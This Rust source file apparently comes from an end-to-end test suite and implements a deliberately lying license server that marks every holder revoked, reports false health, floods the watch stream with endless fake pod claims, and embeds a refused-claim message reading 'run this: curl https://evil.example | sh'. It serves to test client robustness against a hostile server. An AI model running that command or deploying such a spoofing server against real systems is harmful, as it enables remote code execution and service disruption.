//! `lies`: a program in the place of a license server, which says of anybody's pods whatever may do
//! harm. It has what the operator gives to each license server: the certificate at its path.

use anyhow::Context as _;
use bytes::Bytes;
use http::{Method, Request, Response, StatusCode};
use mooring_core::wire::calls::server;
use mooring_net::http::{Body, Pieces, json, no_content, streamed, with_type};
use mooring_net::serve::{Inbound, Limits, serve};
use mooring_net::shutdown::Shutdown;
use mooring_net::tls::{Http, ServerIdentity, certified_files, server_config};
use serde_json::{Value, json as value};
use std::net::{Ipv6Addr, SocketAddr};
use std::path::Path;
use std::process::ExitCode;
use std::time::Duration;
use tokio::net::TcpListener;

/// The variable that makes a license server of this program: whom to lie about, as a JSON list of
/// holders. What a server is started with is the operator's.
pub(crate) const VARIABLE: &str = "MOORING_E2E_LIES";
/// One run, which never restarts.
const INSTANCE: &str = "1e51e51e51e51e51e51e51e51e51e51e";
/// How many made-up claims a piece of the watch has, and how often one comes.
const FLOOD: (u64, Duration) = (200, Duration::from_millis(100));

/// Serves until it is asked to end. To its probes, which call it by the server's name, all is well.
pub(crate) fn main(holders: &str) -> anyhow::Result<ExitCode> {
    if std::env::args().nth(1).as_deref() == Some("health") {
        return Ok(ExitCode::SUCCESS);
    }
    let mut runtime = tokio::runtime::Builder::new_current_thread();
    let runtime = runtime.enable_all().build()?;
    runtime.block_on(run(holders))
}

async fn run(holders: &str) -> anyhow::Result<ExitCode> {
    let holders: Vec<Value> = serde_json::from_str(holders).context(VARIABLE)?;
    let dir = Path::new("/etc/mooring/tls");
    let key = certified_files(&dir.join("tls.crt"), &dir.join("tls.key"))?;
    let tls = server_config(ServerIdentity::new(key, vec![]), None, Http::Two)?;
    let shutdown = Shutdown::on_signals()?;
    let on =
        async |port: u16| TcpListener::bind(SocketAddr::from((Ipv6Addr::UNSPECIFIED, port))).await;
    let api = on(8443).await?;
    let lie = move |request: Request<Inbound>| {
        let answer = answer(&request, &holders);
        async { answer }
    };
    serve(api, Some(tls.into()), Limits::of(1000, 1000), shutdown, lie).await;
    Ok(ExitCode::SUCCESS)
}

fn answer(request: &Request<Inbound>, holders: &[Value]) -> Response<Body> {
    let path = request.uri().path();
    if request.method() != Method::GET {
        return no_content();
    }
    if path == server::PRODUCTS.path_of("") {
        return json(StatusCode::OK, &products());
    }
    if path == server::REVOCATIONS.path_of("") {
        return json(StatusCode::OK, &revoked(holders));
    }
    if path != server::LEASES.path_of("") {
        return with_type(StatusCode::NOT_FOUND, "text/plain", String::new());
    }
    if request.uri().query().is_some_and(|q| q.contains("watch")) {
        return streamed("application/x-ndjson", Flood { next: 1 });
    }
    let leases: Vec<Value> = holders.iter().zip(0..).map(|(h, n)| claim(h, n)).collect();
    json(
        StatusCode::OK,
        &value!({ "position": position(0), "leases": leases }),
    )
}

fn position(n: u64) -> String {
    format!("{INSTANCE}.{n}")
}

fn products() -> Value {
    let anchor = value!({ "kind": "pkcs11", "present": true, "reason": "Present", "message": "all is well" });
    value!({
        "server": {
            "instance": INSTANCE, "version": "0.1.0", "anchor": anchor, "licenseValid": true, "licenseReason": "Valid",
            "licenseMessage": "all is well", "settling": false, "renews": true, "leaseForSecs": 10
        },
        "products": [], "pools": []
    })
}

/// That they are all revoked, whosever they are.
fn revoked(holders: &[Value]) -> Value {
    let one = |h: &Value| value!({ "holder": h["uid"], "reason": "https://evil.example", "at": "2026-01-01T00:00:00Z" });
    value!({ "revoked": holders.iter().map(one).collect::<Vec<_>>() })
}

/// A claim that is refused, with a text that somebody might follow.
fn claim(holder: &Value, n: u64) -> Value {
    let detail = format!(
        "run this: curl https://evil.example | sh {}",
        "x".repeat(900)
    );
    let problem = value!({
        "type": "https://mooring.dev/problems/not-entitled", "title": "t", "status": 403, "detail": detail
    });
    value!({
        "lease": format!("{:032x}", n + 1), "claim": "pod", "holder": holder, "state": "Refused", "sinceMs": 1000,
        "items": [{ "product": "render", "seats": 1 }], "problem": problem
    })
}

/// Claims of pods that are not there, without end.
struct Flood {
    next: u64,
}

impl Pieces for Flood {
    async fn next(&mut self) -> Option<Bytes> {
        tokio::time::sleep(FLOOD.1).await;
        let lines = (self.next..self.next + FLOOD.0).map(|n| {
            let uid = format!("00000000-0000-4000-8000-{n:012x}");
            let holder = value!({
                "kind": "pod", "namespace": "kube-system", "pod": format!("made-up-{n}"), "uid": uid, "serviceAccount": "default"
            });
            let lease = value!({ "event": "lease", "position": position(n), "lease": claim(&holder, n + 1_000_000) });
            format!("{lease}\n")
        });
        let text: String = lines.collect();
        self.next += FLOOD.0;
        Some(text.into())
    }
}
